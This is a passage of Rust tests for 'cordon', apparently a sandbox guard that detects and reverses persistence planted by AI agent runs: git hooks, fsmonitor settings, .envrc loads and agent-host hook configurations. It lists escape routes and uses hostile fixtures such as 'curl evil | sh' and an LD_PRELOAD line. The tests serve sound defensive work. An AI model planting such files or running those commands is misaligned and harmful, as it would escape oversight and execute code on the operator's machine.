        let d_mode = std::fs::metadata(root.join("d")).unwrap().mode();
        assert_eq!(claude.mode() & 0o777, d_mode & 0o777);
        let back = std::fs::metadata(&hook).unwrap();
        assert_eq!(back.mode() & 0o7777, 0o755);
        if running_as_root() {
            assert_eq!((back.uid(), back.gid()), (12345, 12346));
        }
        assert_eq!(std::fs::read(&hook).unwrap(), b"#!/bin/sh\nexit 1\n");
        // What was written back is not found again.
        let again = Snapshot::take(std::slice::from_ref(&root));
        assert_eq!(
            Snapshot::take(std::slice::from_ref(&root)).findings_since(&again),
            vec![]
        );
    }

    /// A wrapped server's watch writes back what was removed, and its next check neither
    /// takes that for a plant nor reports the removal again.
    #[test]
    fn a_watch_writes_back_a_removed_file_once() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        std::fs::write(root.join(".envrc"), "old").unwrap();
        let mut watch = Watch::start(std::slice::from_ref(&root));
        std::fs::remove_file(root.join(".envrc")).unwrap();
        let (found, _) = watch.check();
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].handling, Handling::Recreated);
        assert_eq!(std::fs::read(root.join(".envrc")).unwrap(), b"old");
        let (found, _) = watch.check();
        assert_eq!(found, vec![]);
        std::fs::write(root.join(".envrc"), "new").unwrap();
        let (found, _) = watch.check();
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(std::fs::read(root.join(".envrc")).unwrap(), b"old");
    }

    #[test]
    fn a_todo_list_is_reported_only_when_it_runs_commands() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::create_dir_all(root.join(".git/rebase-merge")).unwrap();
        std::fs::create_dir_all(root.join(".git/sequencer")).unwrap();
        std::fs::write(
            root.join(".git/rebase-merge/git-rebase-todo"),
            "pick 1234 one\n# exec not a command\n",
        )
        .unwrap();
        std::fs::write(
            root.join(".git/sequencer/todo"),
            "pick 1 a\n  x touch /tmp/m\n",
        )
        .unwrap();
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        assert_eq!(paths, vec![root.join(".git/sequencer/todo")], "{found:#?}");
        assert!(root.join(".git/sequencer/.todo.cordon-quarantine").exists());
    }

    /// Round 10: a root below the home (`~/.claude` here) holds part of the home's surface,
    /// which the file tools and the analysis classify by its place in the home: the scan
    /// watches that part too (before, only a root holding the whole home had it watched, and a
    /// script's rewrite of `~/.claude/plugins/known_marketplaces.json` ran the plugin it
    /// named at the next session, `hosts_claude.rs`). What lies in no root is not watched.
    #[test]
    fn the_homes_surface_in_a_root_below_the_home_is_watched() {
        let d = tempfile::tempdir().unwrap();
        let home = d.path().canonicalize().unwrap();
        let root = home.join(".claude");
        std::fs::create_dir_all(root.join("plugins")).unwrap();
        std::fs::create_dir_all(home.join(".config/systemd/user")).unwrap();
        let roots = [root.clone()];
        // As `Snapshot::take_with` does for each root.
        let snap = || {
            let mut s = Snapshot::default();
            s.home_surface(&home, &roots);
            s.within_root(&root, Some(&home));
            s
        };
        let before = snap();
        std::fs::write(root.join("plugins/known_marketplaces.json"), "{}").unwrap();
        std::fs::write(root.join("settings.json"), "{}").unwrap();
        std::fs::write(root.join("notes.txt"), "").unwrap();
        std::fs::write(home.join(".config/systemd/user/x.service"), "").unwrap();
        std::fs::write(home.join(".bashrc"), "").unwrap();
        let mut found: Vec<_> = snap()
            .findings_since(&before)
            .into_iter()
            .map(|f| f.path)
            .collect();
        found.sort();
        assert_eq!(
            found,
            [
                root.join("plugins/known_marketplaces.json"),
                root.join("settings.json")
            ]
        );
    }

    /// A host directory the environment moved into a root (`CODEX_HOME=root/ch`) is watched as
    /// it is at the home: its hooks file, every file of its plugin directory, and (round 8)
    /// every file of a home directory there (`$XDG_CONFIG_HOME/systemd/user`).
    #[test]
    fn a_host_home_moved_into_a_root_is_watched() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        for dir in ["ch", "cfg/opencode/plugin", "cfg/systemd/user"] {
            std::fs::create_dir_all(root.join(dir)).unwrap();
        }
        let var = |n: &str| match n {
            "CODEX_HOME" => Some(root.join("ch").into_os_string()),
            "XDG_CONFIG_HOME" => Some(root.join("cfg").into_os_string()),
            _ => None,
        };
        let roots = [root.clone()];
        let snap = || {
            let mut s = Snapshot::default();
            s.host_homes(&roots, &var);
            s
        };
        let before = snap();
        std::fs::write(root.join("ch/hooks.json"), "{}").unwrap();
        std::fs::write(root.join("cfg/opencode/plugin/x.js"), "").unwrap();
        // Round 8: a directory of the home's surface there too (`HOME_DIRS`).
        std::fs::write(root.join("cfg/systemd/user/x.service"), "").unwrap();
        let mut found: Vec<_> = snap()
            .findings_since(&before)
            .into_iter()
            .map(|f| f.path)
            .collect();
        found.sort();
        assert_eq!(
            found,
            [
                root.join("cfg/opencode/plugin/x.js"),
                root.join("cfg/systemd/user/x.service"),
                root.join("ch/hooks.json")
            ]
        );
    }

    /// A lasting run's checks: each plant is moved aside at the check after it, and what
    /// cordon moved aside (a hook renamed in `hooks/`, a git directory renamed beside it, a
    /// config restored) is not found again by the next check.
    #[test]
    fn a_watch_finds_each_plant_once_at_the_next_check() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        let roots = [root.clone()];
        let before_run = Snapshot::take(&roots);
        let mut w = Watch::start(&roots);
        assert_eq!(w.check(), (vec![], false));
        std::fs::write(root.join(".envrc"), "planted").unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit"), "planted").unwrap();
        std::fs::create_dir_all(root.join(".github/hooks")).unwrap();
        std::fs::write(root.join(".github/hooks/x.json"), "{}").unwrap();
        let config = std::fs::read(root.join(".git/config")).unwrap();
        std::fs::write(root.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
        std::fs::create_dir(root.join("sub")).unwrap();
        git(&root.join("sub"), &["init", "-q"]);
        let (found, truncated) = w.check();
        assert!(!truncated);
        let mut paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        paths.sort();
        assert_eq!(
            paths,
            [
                ".envrc",
                ".git/config",
                ".git/hooks/pre-commit",
                ".github/hooks",
                "sub/.git"
            ]
            .map(|p| root.join(p)),
            "{found:#?}"
        );
        assert!(!root.join(".envrc").exists());
        assert_eq!(std::fs::read(root.join(".git/config")).unwrap(), config);
        assert!(root.join("sub/.git.cordon-quarantine").is_dir());
        for _ in 0..2 {
            assert_eq!(w.check(), (vec![], false));
        }
        // A second plant at a place already moved aside once is found again.
        std::fs::write(root.join(".envrc"), "again").unwrap();
        let (found, _) = w.check();
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(found[0].path, root.join(".envrc"));
        assert_eq!(w.check(), (vec![], false));
        // The exit scan compares with the state before the run: what the checks moved aside
        // or restored is not reported again; a change made since is.
        let exit = Snapshot::take(&roots).findings_since(&before_run);
        assert_eq!(exit, vec![], "{exit:#?}");
        std::fs::write(root.join(".git/config"), "[core]\n\tfsmonitor = again\n").unwrap();
        let exit = Snapshot::take(&roots).findings_since(&before_run);
        assert_eq!(exit.len(), 1, "{exit:#?}");
        assert_eq!(exit[0].path, root.join(".git/config"));
        assert_eq!(std::fs::read(root.join(".git/config")).unwrap(), config);
    }

    /// A server that rewrites a restored file in the instant between cordon's write and its
    /// read-back of the identity (it can watch for the restore with inotify) is not taken for
    /// cordon: the restored content is remembered too, so the server's version is found by the
    /// next check and by the exit scan. The lost race is reproduced by registering the path
    /// after the server's write, as the read-back would then.
    #[test]
    fn a_write_racing_the_restore_is_not_taken_for_cordons() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        let roots = [root.clone()];
        let config_path = root.join(".git/config");
        let config = std::fs::read(&config_path).unwrap();
        let before_run = Snapshot::take(&roots);
        let mut w = Watch::start(&roots);
        std::fs::write(&config_path, "[core]\n\tfsmonitor = one\n").unwrap();
        let (found, _) = w.check();
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(
            matches!(found[0].handling, Handling::Restored(_)),
            "{found:#?}"
        );
        assert_eq!(std::fs::read(&config_path).unwrap(), config);
        // The server's write lands before cordon reads the restored file's identity back.
        std::fs::write(&config_path, "[core]\n\tfsmonitor = two\n").unwrap();
        remember_restored(&config_path, &config);
        let (found, _) = w.check();
        assert_eq!(
            found.len(),
            1,
            "the racing write was taken for cordon's: {found:#?}"
        );
        assert_eq!(found[0].path, config_path);
        assert_eq!(std::fs::read(&config_path).unwrap(), config);
        // Again, and this time the exit scan must see it.
        std::fs::write(&config_path, "[core]\n\tfsmonitor = three\n").unwrap();
        remember_restored(&config_path, &config);
        let exit = Snapshot::take(&roots).findings_since(&before_run);
        assert_eq!(exit.len(), 1, "{exit:#?}");
        assert_eq!(std::fs::read(&config_path).unwrap(), config);
    }

    /// A directory on the way that became a symlink (a process that outlived the run) does
    /// not send the rename elsewhere.
    #[test]
    fn quarantine_follows_no_symlink_on_the_way() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        std::fs::create_dir(root.join("other")).unwrap();
        std::fs::write(root.join("other/.envrc"), "not the run's").unwrap();
        std::os::unix::fs::symlink(root.join("other"), root.join("a")).unwrap();
        let f = Finding {
            path: root.join("a/.envrc"),
            what: What::ToolFile,
            change: Change::Appeared,
            why: String::new(),
            handling: Handling::Reported(String::new()),
        };
        let h = quarantine(&f, None, None);
        assert!(matches!(h, Handling::Reported(_)), "{h:?}");
        assert!(root.join("other/.envrc").exists());
        assert!(!root.join("other/.envrc.cordon-quarantine").exists());
    }

    #[test]
    fn quarantine_never_replaces_a_name() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::write(root.join(".envrc"), "planted").unwrap();
        std::fs::write(root.join(".envrc.cordon-quarantine"), "earlier").unwrap();
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let Handling::Quarantined(to) = &found[0].handling else {
            panic!("{found:#?}");
        };
        let to = to.file_name().unwrap().to_string_lossy();
        assert!(
            to.starts_with(".envrc.cordon-quarantine-") && to.ends_with("-1"),
            "{to}"
        );
        assert_eq!(
            std::fs::read(root.join(".envrc.cordon-quarantine")).unwrap(),
            b"earlier"
        );
    }

    /// Class 3 of issue 21: a settings directory that is a link, a bare repository whose
    /// `objects` is a link, each appearing during a run, are reported and moved aside.
    #[test]
    fn links_do_not_hide_a_settings_directory_or_a_bare_repository() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::create_dir_all(root.join("cfg")).unwrap();
        std::fs::write(root.join("cfg/settings.json"), "{\"hooks\": {}}").unwrap();
        std::os::unix::fs::symlink("cfg", root.join(".claude")).unwrap();
        std::fs::create_dir_all(root.join("store/o")).unwrap();
        std::fs::create_dir_all(root.join("ev/refs")).unwrap();
        std::fs::write(root.join("ev/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(root.join("ev/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
        std::os::unix::fs::symlink("../store/o", root.join("ev/objects")).unwrap();
        let after = Snapshot::take(std::slice::from_ref(&root));
        let found = after.findings_since(&before);
        let paths: Vec<_> = found.iter().map(|f| (f.path.clone(), f.what)).collect();
        assert!(
            paths.contains(&(root.join(".claude"), What::ToolFile)),
            "{found:#?}"
        );
        assert!(
            paths.contains(&(root.join("ev"), What::BareRepository)),
            "{found:#?}"
        );
        assert!(!root.join(".claude").exists() && !root.join("ev").exists());
    }

    /// Copilot CLI's hook files and opencode's plugins and config: a file of any name planted
    /// in their directories, or `opencode.json` (no leading dot), is found and moved aside; a
    /// file that was there before and is unchanged is left alone.
    #[test]
    fn copilot_hooks_and_opencode_plugins_are_watched() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join(".github/hooks")).unwrap();
        std::fs::write(root.join(".github/hooks/cordon.json"), "{}").unwrap();
        std::fs::create_dir_all(root.join("sub")).unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::write(root.join(".github/hooks/evil.json"), "{\"hooks\":{}}").unwrap();
        std::fs::create_dir_all(root.join("sub/.opencode/plugin")).unwrap();
        std::fs::write(root.join("sub/.opencode/plugin/x.js"), "export default 1").unwrap();
        std::fs::write(root.join("opencode.json"), "{\"plugin\":[\"x\"]}").unwrap();
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        for p in [
            root.join(".github/hooks/evil.json"),
            root.join("sub/.opencode"),
            root.join("opencode.json"),
        ] {
            assert!(
                paths.iter().any(|f| p.starts_with(f) || f.starts_with(&p)),
                "{p:?} not found: {found:#?}"
            );
        }
        assert!(!root.join(".github/hooks/evil.json").exists());
        assert!(!root.join("opencode.json").exists());
        assert!(!root.join("sub/.opencode/plugin/x.js").exists());
        assert!(root.join(".github/hooks/cordon.json").exists());
    }
    /// Round 8 (redsurf21): a VS Code workspace file is a tool's file by how its name ends
    /// (`surface::TOOL_SUFFIXES`): one a run leaves, changed or new, is found; a file that only
    /// mentions the name is not.
    #[test]
    fn a_vs_code_workspace_file_is_watched() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join("sub")).unwrap();
        std::fs::write(root.join("team.code-workspace"), "{}").unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::write(root.join("team.code-workspace"), "{\"tasks\":{}}").unwrap();
        std::fs::write(root.join("sub/x.code-workspace"), "{}").unwrap();
        std::fs::write(root.join("sub/code-workspace.md"), "").unwrap();
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let mut paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        paths.sort();
        assert_eq!(
            paths,
            [
                root.join("sub/x.code-workspace"),
                root.join("team.code-workspace")
            ]
        );
    }

    /// Round 7 (redsurf21): Jujutsu's configuration files, a dev container's, Zed's and
    /// Helix's project settings (`surface::TOOL_FILES`/`TOOL_DIRS`) are watched; jj's working
    /// state beside them is the run's.
    #[test]
    fn jujutsu_dev_container_zed_and_helix_settings_are_watched() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        for dir in [".jj/repo/op_heads/heads", ".devcontainer", ".helix", "sub"] {
            std::fs::create_dir_all(root.join(dir)).unwrap();
        }
        std::fs::write(root.join(".jj/repo/config-id"), "0123456789abcdef0123").unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        for (f, text) in [
            (".jj/repo/config.toml", "[ui]\npager = \"sh -c x\"\n"),
            (".jj/repo/config-id", "ffffffffffffffffffff"),
            (".jj/repo/op_heads/heads/y", ""),
            (
                ".devcontainer/devcontainer.json",
                "{\"initializeCommand\":\"x\"}",
            ),
            (".devcontainer.json", "{}"),
            (
                ".helix/languages.toml",
                "[language-server.x]\ncommand = \"x\"\n",
            ),
        ] {
            std::fs::write(root.join(f), text).unwrap();
        }
        std::fs::create_dir_all(root.join("sub/.zed")).unwrap();
        std::fs::write(root.join("sub/.zed/settings.json"), "{}").unwrap();
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let mut paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        paths.sort();
        let mut want: Vec<_> = [
            ".devcontainer.json",
            ".devcontainer/devcontainer.json",
            ".helix/languages.toml",
            ".jj/repo/config-id",
            ".jj/repo/config.toml",
            "sub/.zed",
        ]
        .iter()
        .map(|f| root.join(f))
        .collect();
        want.sort();
        assert_eq!(paths, want, "{found:#?}");
        assert!(!root.join(".jj/repo/config.toml").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".jj/repo/config-id")).unwrap(),
            "0123456789abcdef0123",
            "a changed file's content from before the run is written back"
        );
        assert!(root.join(".jj/repo/op_heads/heads/y").exists());
    }

    /// Round 7 (redsurf21): what an `.envrc` loads (`source_env_if_exists .envrc.local`,
    /// `dotenv`, a script it runs, the Nix files of `use flake`) is watched, in the root and
    /// from an `.envrc` above it; a directory it puts on the PATH is the run's (a build's
    /// output), and so is the rest of the tree.
    #[test]
    fn what_an_envrc_loads_is_watched() {
        let d = tempfile::tempdir().unwrap();
        let top = d.path().canonicalize().unwrap();
        let root = top.join("ws");
        std::fs::create_dir_all(root.join("sub/bin")).unwrap();
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        std::fs::write(top.join(".envrc"), "source_env_if_exists ws/shared.sh\n").unwrap();
        std::fs::write(
            root.join("sub/.envrc"),
            "source_env_if_exists .envrc.local\ndotenv\nuse flake\nPATH_add bin\n\
             ../scripts/init.sh\n",
        )
        .unwrap();
        std::fs::write(root.join("sub/.env"), "A=1\n").unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        for (f, text) in [
            ("sub/.envrc.local", "echo planted"),
            ("sub/.env", "LD_PRELOAD=/tmp/x.so\n"),
            ("sub/flake.nix", "{ }"),
            ("scripts/init.sh", "echo planted"),
            ("shared.sh", "echo planted"),
            ("sub/bin/tool", "built"),
            ("sub/notes.txt", "x"),
        ] {
            std::fs::write(root.join(f), text).unwrap();
        }
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let mut paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        paths.sort();
        let mut want: Vec<_> = [
            "scripts/init.sh",
            "shared.sh",
            "sub/.env",
            "sub/.envrc.local",
            "sub/flake.nix",
        ]
        .iter()
        .map(|f| root.join(f))
        .collect();
        want.sort();
        assert_eq!(paths, want, "{found:#?}");
        assert_eq!(
            std::fs::read_to_string(root.join("sub/.env")).unwrap(),
            "A=1\n",
            "a changed file's content from before the run is written back"
        );
        assert!(!root.join("sub/.envrc.local").exists());
        assert!(root.join("sub/bin/tool").exists());
        assert!(root.join("sub/notes.txt").exists());
    }

    /// Round 7 (redsurf21): a FIFO a run leaves where the scan reads a configuration (the
    /// root's `.git/config`, a bare repository's `commondir`, an `.envrc`) made the after-run
    /// scan block on its open for good, and cordon with it. The scan now finishes, and reports
    /// what changed.
    #[test]
    fn a_fifo_where_a_configuration_is_read_never_blocks_the_scan() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        for dir in ["bare/objects", "bare/refs", "sub"] {
            std::fs::create_dir_all(root.join(dir)).unwrap();
        }
        std::fs::write(root.join("bare/HEAD"), "ref: refs/heads/main\n").unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::remove_file(root.join(".git/config")).unwrap();
        for f in [".git/config", "bare/commondir", "sub/.envrc"] {
            let made = std::process::Command::new("mkfifo")
                .arg(root.join(f))
                .status();
            assert!(made.is_ok_and(|s| s.success()), "mkfifo {f}");
        }
        let (tx, rx) = std::sync::mpsc::channel();
        let at = root.clone();
        std::thread::spawn(move || {
            let _ = tx.send(Snapshot::take(std::slice::from_ref(&at)).findings_since(&before));
        });
        let found = rx
            .recv_timeout(Duration::from_secs(120))
            .expect("the scan blocked on a FIFO");
        let paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        for f in [".git/config", "bare/commondir", "sub/.envrc"] {
            assert!(
                paths.contains(&root.join(f)),
                "{f} not reported: {found:#?}"
            );
        }
    }

    /// Round 7 (redsurf21): a directory whose path is longer than the kernel takes (a run's
    /// chain of 255-byte names, each made with a relative `mkdir`/`cd`) cannot be opened by
    /// path, so the walk saw neither it nor an `.envrc` at its bottom, and said nothing: the
    /// scan counted as complete. Now such a scan is incomplete, which fails closed (the
    /// root's next run is refused until the operator has looked).
    #[test]
    fn a_directory_too_deep_to_open_by_path_makes_the_scan_incomplete() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        assert!(!before.truncated);
        let made = std::process::Command::new("sh")
            .arg("-c")
            .arg("n=$(printf 'd%.0s' $(seq 250)); for i in $(seq 20); do mkdir $n && cd -P $n || exit 1; done; echo x > .envrc")
            .current_dir(&root)
            .status()
            .unwrap();
        assert!(made.success());
        let after = Snapshot::take(std::slice::from_ref(&root));
        assert!(
            after.truncated,
            "the scan passed for complete: {:#?}",
            after.findings_since(&before)
        );
        let _ = std::process::Command::new("rm")
            .arg("-rf")
            .arg(&root)
            .status();
    }

    /// Round 7 (redsurf21): a program the repository's configuration names by a path in the
    /// work tree (`core.fsmonitor = scripts/fsmon.sh`, which the real git runs from the top at
    /// every `git status`; a filter's program) is watched: a run that rewrote it, or made it,
    /// had the operator's next `git status` run it outside the sandbox.
    #[test]
    fn a_program_the_git_configuration_names_is_watched() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        git(&root, &["init", "-q"]);
        git(&root, &["config", "core.fsmonitor", "scripts/fsmon.sh"]);
        git(&root, &["config", "filter.x.clean", "tools/clean.sh %f"]);
        // Through a link the operator keeps: git's shell follows it.
        git(&root, &["config", "alias.y", "!hk/y.sh"]);
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        std::os::unix::fs::symlink("scripts", root.join("hk")).unwrap();
        std::fs::write(root.join("scripts/fsmon.sh"), "#!/bin/sh\n").unwrap();
        std::fs::write(root.join("scripts/other.sh"), "#!/bin/sh\n").unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::write(root.join("scripts/fsmon.sh"), "#!/bin/sh\nplanted\n").unwrap();
        std::fs::write(root.join("scripts/other.sh"), "#!/bin/sh\nedited\n").unwrap();
        std::fs::create_dir_all(root.join("tools")).unwrap();
        std::fs::write(root.join("tools/clean.sh"), "planted").unwrap();
        std::fs::write(root.join("scripts/y.sh"), "planted").unwrap();
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let mut paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        paths.sort();
        assert_eq!(
            paths,
            vec![
                root.join("scripts/fsmon.sh"),
                root.join("scripts/y.sh"),
                root.join("tools/clean.sh")
            ],
            "{found:#?}"
        );
        assert_eq!(
            std::fs::read_to_string(root.join("scripts/fsmon.sh")).unwrap(),
            "#!/bin/sh\n"
        );
        assert!(std::fs::read_to_string(root.join("scripts/other.sh"))
            .unwrap()
            .contains("edited"));
    }
    /// Issue 21 (scanhooks21): a program an agent host's hook configuration names (a Claude
    /// Code PreToolUse hook's `"$CLAUDE_PROJECT_DIR"/scripts/hook.sh`, Gemini CLI's, a
    /// Copilot hook file's, husky's and pre-commit's) is watched like git's hooks: the host
    /// runs it outside any sandbox at its next tool call, so a run that rewrote or made it is
    /// moved aside. An MCP server's command (a build's output) and an unrelated script are not.
    #[test]
    fn a_program_a_hosts_hook_configuration_names_is_watched() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        let w = |rel: &str, text: &str| {
            let p = root.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        };
        w(
            ".claude/settings.json",
            r#"{"hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"\"$CLAUDE_PROJECT_DIR\"/scripts/hook.sh"}]}]},"mcpServers":{"x":{"command":"node","args":["dist/index.js"]}}}"#,
        );
        w(
            "sub/.gemini/settings.json",
            r#"{"hooks":{"BeforeTool":[{"hooks":[{"type":"command","command":"./tools/gem.sh"}]}]}}"#,
        );
        w(
            ".github/hooks/audit.json",
            r#"{"version":1,"hooks":{"preToolUse":[{"type":"command","bash":"./scripts/audit.sh"}]}}"#,
        );
        w(".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: l\n    entry: ci/lint.sh\n    language: script\n");
        w("scripts/hook.sh", "#!/bin/sh\n");
        w("scripts/audit.sh", "#!/bin/sh\n");
        w("scripts/other.sh", "#!/bin/sh\n");
        w("dist/index.js", "built\n");
        w("ci/lint.sh", "#!/bin/sh\n");
        let before = Snapshot::take(std::slice::from_ref(&root));
        w("scripts/hook.sh", "#!/bin/sh\nplanted\n");
        w("scripts/audit.sh", "#!/bin/sh\nplanted\n");
        w("ci/lint.sh", "#!/bin/sh\nplanted\n");
        w("sub/tools/gem.sh", "planted\n");
        w("scripts/other.sh", "#!/bin/sh\nedited\n");
        w("dist/index.js", "rebuilt\n");
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let mut paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        paths.sort();
        assert_eq!(
            paths,
            vec![
                root.join("ci/lint.sh"),
                root.join("scripts/audit.sh"),
                root.join("scripts/hook.sh"),
                root.join("sub/tools/gem.sh"),
            ],
            "{found:#?}"
        );
        assert_eq!(
            std::fs::read_to_string(root.join("scripts/hook.sh")).unwrap(),
            "#!/bin/sh\n"
        );
        assert!(!root.join("sub/tools/gem.sh").exists());
        assert!(std::fs::read_to_string(root.join("scripts/other.sh"))
            .unwrap()
            .contains("edited"));
        assert_eq!(
            std::fs::read_to_string(root.join("dist/index.js")).unwrap(),
            "rebuilt\n"
        );
    }

    /// A hook configuration the scan cannot read (a FIFO, past the size bound) could name any
    /// program: the scan is incomplete, which fails closed (the root's next run is refused).
    #[test]
    fn an_unreadable_hook_configuration_makes_the_scan_incomplete() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join(".claude")).unwrap();
        assert!(!Snapshot::take(std::slice::from_ref(&root)).truncated);
        rustix::fs::mknodat(
            rustix::fs::CWD,
            root.join(".claude/settings.json"),
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o644),
            0,
        )
        .unwrap();
        assert!(Snapshot::take(std::slice::from_ref(&root)).truncated);
    }
    /// A hook configuration above a root (the project's `.claude/settings.json` when the root
    /// is a subdirectory of it, the user's `~/.claude/settings.json`) names programs in it too.
    #[test]
    fn a_hook_configuration_above_the_root_is_read() {
        let d = tempfile::tempdir().unwrap();
        let top = d.path().canonicalize().unwrap();
        let root = top.join("sub");
        std::fs::create_dir_all(top.join(".claude")).unwrap();
        std::fs::create_dir_all(root.join("scripts")).unwrap();
        std::fs::write(
            top.join(".claude/settings.json"),
            r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"$CLAUDE_PROJECT_DIR/sub/scripts/stop.sh"}]}]}}"#,
        )
        .unwrap();
        std::fs::write(root.join("scripts/stop.sh"), "#!/bin/sh\n").unwrap();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::write(root.join("scripts/stop.sh"), "#!/bin/sh\nplanted\n").unwrap();
        let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
        let paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
        assert_eq!(paths, vec![root.join("scripts/stop.sh")], "{found:#?}");
    }

    fn running_as_root() -> bool {
        rustix::process::geteuid().is_root()
    }

    /// The journal entries (`journal-…`) and kept ones (`kept-…`) in `scans`.
    fn entries(scans: &Path, prefix: &str) -> Vec<PathBuf> {
        std::fs::read_dir(scans)
            .map(|rd| {
                rd.flatten()
                    .map(|e| e.path())
                    .filter(|p| {
                        p.file_name()
                            .is_some_and(|n| n.to_string_lossy().starts_with(prefix))
                    })
                    .collect()
            })
            .unwrap_or_default()
    }

    /// A run that changed `.envrc` (mode 0640, owned by another user as root), its scan
    /// killed at `step` of the move: the entry is left, unlocked, as a SIGKILL leaves it.
    fn killed_scan(step: journal::Step) -> (tempfile::TempDir, PathBuf, PathBuf, SystemTime) {
        use std::os::unix::fs::PermissionsExt;
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap().join("root");
        let scans = d.path().canonicalize().unwrap().join("scans");
        std::fs::create_dir(&root).unwrap();
        std::fs::write(root.join(".envrc"), "use flake # the operator's").unwrap();
        std::fs::set_permissions(root.join(".envrc"), std::fs::Permissions::from_mode(0o640))
            .unwrap();
        if running_as_root() {
            std::os::unix::fs::chown(root.join(".envrc"), Some(12345), Some(12346)).unwrap();
        }
        let started = SystemTime::now();
        let before = Snapshot::take(std::slice::from_ref(&root));
        std::fs::write(root.join(".envrc"), "curl evil | sh").unwrap();
        let after = Snapshot::take(std::slice::from_ref(&root));
        journal::KILL_AT.with(|k| k.set(Some(step)));
        let journal = Journal::beside(&scans).of(std::slice::from_ref(&root));
        let found = after.findings_journaled(&before, Some(&journal));
        journal::KILL_AT.with(|k| k.set(None));
        assert_eq!(found.len(), 1, "{found:#?}");
        assert_eq!(entries(&scans, "journal-").len(), 1, "step {step:?}");
        (d, root, scans, started)
    }

    /// A scan killed at each step of a move (before it, between the move aside and the
    /// restore, in the middle of writing the earlier content, after the restore): the next
    /// run's recovery ends with the run's version aside, the earlier content, mode and owner
    /// back under the name, one finding reported, no entry or staging file left, and the dead
    /// run's scan (`changed_since`) does not move the restored file aside again.
    #[test]
    fn a_scan_killed_at_any_step_of_a_move_is_finished_by_the_next_run() {
        use journal::Step;
        for step in [Step::Journaled, Step::Moved, Step::Staging, Step::Restored] {
            let (_d, root, scans, started) = killed_scan(step);
            let roots = vec![root.clone()];
            let found = Journal::beside(&scans).recover(&roots);
            let envrc = root.join(".envrc");
            assert_eq!(
                std::fs::read(&envrc).ok().as_deref(),
                Some(&b"use flake # the operator's"[..]),
                "step {step:?}: {found:#?}"
            );
            let m = std::fs::metadata(&envrc).unwrap();
            assert_eq!(m.mode() & 0o7777, 0o640, "step {step:?}");
            if running_as_root() {
                assert_eq!((m.uid(), m.gid()), (12345, 12346), "step {step:?}");
            }
            assert_eq!(
